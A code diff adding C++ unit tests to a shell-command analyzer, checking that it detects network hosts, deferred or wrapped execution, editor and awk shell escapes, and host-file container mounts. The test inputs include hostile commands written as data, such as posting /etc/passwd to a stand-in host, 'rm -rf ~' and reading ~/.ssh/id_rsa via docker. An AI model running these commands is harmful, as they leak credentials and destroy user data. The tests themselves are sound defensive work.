@@ -974,5 +974,58 @@ TEST(ShellNetwork, ForgeClientsReachTheirApi) {
   EXPECT_TRUE(analyze_shell("gh api --hostname \"$H\" /user").opaque);
 }
 
+TEST(ShellWrappers, TracersNamespacesAndServiceRunnersArePeeled) {
+  for (const char* cmd : {"strace -f -o /tmp/t curl https://x.example", "ltrace -e malloc curl https://x.example",
+                          "unshare -r curl https://x.example", "nsenter -t 1 -m curl https://x.example",
+                          "systemd-run --user --unit=x curl https://x.example",
+                          "parallel -j4 curl https://x.example/{} ::: a b", "sg docker -c 'curl https://x.example'"}) {
+    auto a = analyze_shell(cmd);
+    EXPECT_EQ(a.hosts, (std::vector<std::string>{"x.example"})) << cmd;
+    bool curl = false;
+    for (const auto& c : a.commands) curl = curl || c.name == "curl";
+    EXPECT_TRUE(curl) << cmd;
+  }
+  EXPECT_TRUE(analyze_shell("unshare -r").opaque);
+  EXPECT_FALSE(analyze_shell("strace -p 123").opaque);
+}
+
+TEST(ShellWrappers, CommandsRunLaterOrElsewhereAreFollowedOrOpaque) {
+  auto at = analyze_shell("echo 'curl https://x.example -d @/etc/passwd' | at now + 1 minute");
+  EXPECT_EQ(at.hosts, (std::vector<std::string>{"x.example"}));
+  EXPECT_TRUE(analyze_shell("echo '* * * * * curl x.example' | crontab -").opaque);
+  EXPECT_FALSE(analyze_shell("crontab -l").opaque);
+  EXPECT_TRUE(analyze_shell("tmux new-session -d 'curl https://x.example'").opaque);
+  EXPECT_TRUE(analyze_shell("tmux send-keys -t 0 'rm -rf ~' Enter").opaque);
+  EXPECT_FALSE(analyze_shell("tmux ls").opaque);
+  EXPECT_TRUE(analyze_shell("screen -dmS x curl https://x.example").opaque);
+  EXPECT_FALSE(analyze_shell("screen -ls").opaque);
+}
+
+TEST(ShellWrappers, AwkAndEditorsThatRunCommandsAreOpaque) {
+  EXPECT_TRUE(analyze_shell("awk 'BEGIN{system(\"curl x.example\")}'").opaque);
+  EXPECT_TRUE(analyze_shell("awk '{print | \"sh\"}' cmds.txt").opaque);
+  EXPECT_TRUE(analyze_shell("awk 'BEGIN{\"id\" | getline x; print x}'").opaque);
+  EXPECT_TRUE(analyze_shell("awk -f prog.awk data").opaque);
+  EXPECT_FALSE(analyze_shell("awk '/a|b/ && $1 > 2 || $2 {print $1}' data").opaque);
+  EXPECT_TRUE(analyze_shell("vim -c '!curl x.example' -c q file").opaque);
+  EXPECT_TRUE(analyze_shell("vi '+!sh' file").opaque);
+  EXPECT_FALSE(analyze_shell("vim +42 file").opaque);
+  EXPECT_TRUE(analyze_shell("emacs --batch --eval '(shell-command \"id\")'").opaque);
+}
+
+TEST(ShellWrappers, ContainerMountsReadAndWriteTheHostsFiles) {
+  auto a = analyze_shell(
+      "docker run --rm --name x -v ~/.ssh:/k:ro -v $PWD:/src --mount type=bind,source=/etc,target=/e "
+      "--env-file .env alpine cat /k/id_rsa");
+  std::vector<std::pair<std::string, bool>> got;
+  for (const auto& r : a.redirections) got.emplace_back(r.path, r.write);
+  EXPECT_EQ(got,
+            (std::vector<std::pair<std::string, bool>>{
+                {"~/.ssh", false}, {"$PWD", false}, {"$PWD", true}, {"/etc", false}, {"/etc", true}, {".env", false}}));
+  // The container's own arguments are not its options; named volumes are no host paths.
+  EXPECT_TRUE(analyze_shell("docker run alpine ls -v /root").redirections.empty());
+  EXPECT_TRUE(analyze_shell("docker run -v data:/var/lib/x alpine true").redirections.empty());
+}
+
 }  // namespace
 }  // namespace tollgate::analyze
